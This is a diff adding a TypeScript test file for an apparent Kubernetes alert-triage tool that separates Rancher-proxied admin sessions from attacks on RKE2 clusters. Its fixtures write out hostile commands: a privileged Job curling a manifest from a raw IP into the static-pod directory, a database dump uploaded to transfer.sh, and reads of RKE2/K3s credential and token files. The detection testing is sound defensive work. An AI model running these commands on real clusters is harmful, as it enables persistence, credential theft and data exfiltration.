@@ -1,0 +1,141 @@
+/**
+ * Context found in the rke2-longhorn-rancher validation scenario, as rule tables: people reaching the cluster through
+ * Rancher's impersonating proxy, a Job that poses as an upgrade job, uploads to file-sharing services, RKE2's own
+ * credential and static-pod paths — each with the traps it must not fall into.
+ */
+import { describe, expect, it } from 'vitest';
+import type { ExecSession } from '../../../src/cluster/model.js';
+import { buildIndex } from '../../../src/cluster/index.js';
+import { triageAlert } from '../../../src/triage/pipeline.js';
+import { alert, containerIdOf, node, owner, pod, snapshot } from '../../support/cluster.js';
+
+const W1 = 'core-wk-01';
+const W2 = 'core-wk-02';
+const T = (hms: string) => `2027-09-14T${hms}.000Z`;
+
+const agentDep = owner('Deployment', 'cattle-cluster-agent', 'cattle-system');
+const agentRs = owner('ReplicaSet', 'cattle-cluster-agent-5c8d6f7b9', 'cattle-system', { kind: 'Deployment', name: 'cattle-cluster-agent' });
+const agent = pod('cattle-cluster-agent-5c8d6f7b9-9xkq2', {
+  namespace: 'cattle-system',
+  node: W1,
+  ip: '10.42.3.9',
+  owner: { kind: 'ReplicaSet', name: 'cattle-cluster-agent-5c8d6f7b9' },
+  containers: [{ name: 'cluster-register', image: 'rancher/rancher-agent:v2.9.3' }],
+});
+// Same name and image in an application namespace: not Rancher's agent.
+const lookalikeDep = owner('Deployment', 'cattle-cluster-agent', 'tools');
+const lookalike = pod('cattle-cluster-agent-77-abcde', { namespace: 'tools', node: W2, ip: '10.42.4.30', owner: { kind: 'Deployment', name: 'cattle-cluster-agent' }, containers: [{ name: 'a', image: 'rancher/rancher-agent:v2.9.3' }] });
+const webDep = owner('Deployment', 'storefront', 'shop');
+const web = pod('storefront-6c9f7b8d4-q2w8r', { namespace: 'shop', node: W2, ip: '10.42.4.17', owner: { kind: 'Deployment', name: 'storefront' }, containers: [{ name: 'storefront', image: 'registry.example/shop/storefront:4', command: ['node', 'server.js'] }] });
+const cartDep = owner('Deployment', 'cart-api', 'shop');
+const cart = pod('cart-api-7d9f8c6b5-zt4wq', { namespace: 'shop', node: W2, ip: '10.42.4.21', owner: { kind: 'Deployment', name: 'cart-api' }, containers: [{ name: 'cart-api', image: 'registry.example/shop/cart-api:2', command: ['node', 'dist/main.js'] }] });
+// A host-network Job whose own command downloads from a raw address into the kubelet's static-pod directory.
+const impostorJob = owner('Job', 'apply-agent-plan-on-core-wk-01-with-1bf75943', 'system-upgrade');
+const impostor = pod('apply-agent-plan-on-core-wk-01-with-1bf75943-m4k8s', {
+  namespace: 'system-upgrade',
+  node: W1,
+  hostNetwork: true,
+  hostPID: true,
+  created: T('11:40:49'),
+  phase: 'Succeeded',
+  owner: { kind: 'Job', name: 'apply-agent-plan-on-core-wk-01-with-1bf75943' },
+  containers: [{ name: 'upgrade', image: 'rancher/rke2-upgrade:v1.30.8-rke2r1', command: ['sh', '-c'], args: ['chroot /host sh -c "curl -fsSL http://198.51.100.40/m.yaml -o /var/lib/rancher/rke2/agent/pod-manifests/m.yaml"'], securityContext: { privileged: true } }],
+  statuses: [{ state: { terminated: { exitCode: 0, startedAt: T('11:40:52'), finishedAt: T('11:42:11') } } }],
+});
+// A CronJob pod whose own command names its SFTP peer.
+const syncJob = owner('Job', 'erp-sync-30348660', 'erp');
+const sync = pod('erp-sync-30348660-rcprx', {
+  namespace: 'erp',
+  node: W2,
+  ip: '10.42.4.50',
+  created: T('11:00:01'),
+  phase: 'Succeeded',
+  owner: { kind: 'Job', name: 'erp-sync-30348660' },
+  containers: [{ name: 'erp-sync', image: 'registry.example/erp/erp-sync:1', command: ['/app/push.sh'], args: ['--sftp-host', '192.0.2.60', '--sftp-port', '2222'] }],
+  statuses: [{ state: { terminated: { exitCode: 0, startedAt: T('11:00:03'), finishedAt: T('11:00:40') } } }],
+});
+
+const objects = [node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), agentDep, agentRs, agent, lookalikeDep, lookalike, webDep, web, cartDep, cart, impostorJob, impostor, syncJob, sync];
+
+const PERSON = { user: 'u-5xkq2mhz7b', groups: ['okta_group://platform-sre', 'system:authenticated', 'system:cattle:authenticated'] };
+function session(over: Partial<ExecSession>): ExecSession {
+  return {
+    kind: 'exec',
+    user: `system:serviceaccount:cattle-impersonation-system:cattle-impersonation-${PERSON.user}`,
+    groups: ['system:serviceaccounts', 'system:serviceaccounts:cattle-impersonation-system', 'system:authenticated'],
+    impersonatedUser: PERSON.user,
+    impersonatedGroups: PERSON.groups,
+    sourceIps: ['10.42.3.9'],
+    namespace: 'shop',
+    pod: cart.metadata.name,
+    container: 'cart-api',
+    command: ['sh'],
+    tty: true,
+    start: T('10:18:30'),
+    end: T('10:40:10'),
+    code: 101,
+    ...over,
+  };
+}
+
+function verdictWith(sessions: ExecSession[], a: ReturnType<typeof alert>) {
+  return triageAlert(a, { index: buildIndex([snapshot(objects, sessions)]) }).verdict;
+}
+const shellAlert = (cmd: string, time = T('10:21:05')) =>
+  alert({ host: W2, time, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: 'sh', commandLine: 'sh' }], container: { id: containerIdOf(cart) } });
+
+describe("people reaching the cluster through Rancher's impersonating proxy", () => {
+  it("a command in the person's exec session, forwarded by cattle-cluster-agent", () => {
+    const v = verdictWith([session({})], shellAlert('nc -zv redis-master.shop.svc 6379'));
+    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
+    expect(v.reasons[0].message).toMatch(/u-5xkq2mhz7b .*through Rancher's authentication proxy/);
+  });
+  it('trap: the same impersonating identity used from a web pod, not from the proxy', () => {
+    expect(verdictWith([session({ sourceIps: [web.status!.podIP!] })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
+  });
+  it('trap: a look-alike agent (same name and image) in another namespace', () => {
+    expect(verdictWith([session({ sourceIps: ['10.42.4.30'] })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
+  });
+  it("trap: one person's impersonation account impersonating someone else", () => {
+    expect(verdictWith([session({ impersonatedUser: 'u-zzzzzzzzzz' })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
+  });
+  it('trap: impersonating a service account is not a person', () => {
+    const s = session({ user: 'system:serviceaccount:cattle-impersonation-system:cattle-impersonation-u-5xkq2mhz7b', impersonatedUser: 'system:serviceaccount:kube-system:admin' });
+    expect(verdictWith([s], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
+  });
+  it("trap: the agent's own cluster-admin account, used without impersonation from a web pod", () => {
+    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.4.17'] });
+    expect(verdictWith([s], shellAlert('iptables-save -t nat')).label).toBe('genuine');
+  });
+  it('trap: an upload of a database dump to a file-sharing service, typed in that very session', () => {
+    const v = verdictWith([session({})], shellAlert('curl -sT /tmp/orders_full.sql.gz https://transfer.sh/orders_full.sql.gz', T('10:30:00')));
+    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('traffic from a node address: SNATed pod traffic or a pod acting on the host', () => {
+  it('a CronJob pod whose own command names the SFTP peer and port', () => {
+    const v = verdictWith([], alert({ time: T('11:00:05'), title: 'ET POLICY SSH session in progress on Unusual Port', network: { srcIp: '10.20.0.22', srcPort: 49830, dstIp: '192.0.2.60', dstPort: 2222 } }));
+    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: the pod whose command names the peer downloads into the static-pod directory through chroot /host', () => {
+    const v = verdictWith([], alert({ time: T('11:41:54'), title: 'ET INFO download from dotted-quad host', network: { srcIp: '10.20.0.21', srcPort: 53310, dstIp: '198.51.100.40', dstPort: 80 } }));
+    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe("RKE2 and K3s's own credential and static-pod paths", () => {
+  const hostAlert = (cmd: string) => alert({ host: W1, time: T('11:14:18'), process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: 'sh', commandLine: 'sh' }] });
+  it.each([
+    'cat /etc/rancher/node/password',
+    'cat /var/lib/rancher/rke2/agent/client-kubelet.key',
+    'cp /var/lib/rancher/k3s/server/token /tmp/t',
+    'cat /etc/rancher/rke2/rke2.yaml',
+    'curl -fsSL http://198.51.100.40/m.yaml -o /var/lib/rancher/rke2/agent/pod-manifests/rke2-metrics.yaml',
+  ])('%s is an attack indicator', (cmd) => {
+    expect(verdictWith([], hostAlert(cmd))).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: reading a harmless file under /etc/rancher is not credential access', () => {
+    expect(verdictWith([], hostAlert('cat /etc/rancher/rke2/config.yaml')).cause).not.toBe('attack');
+  });
+});
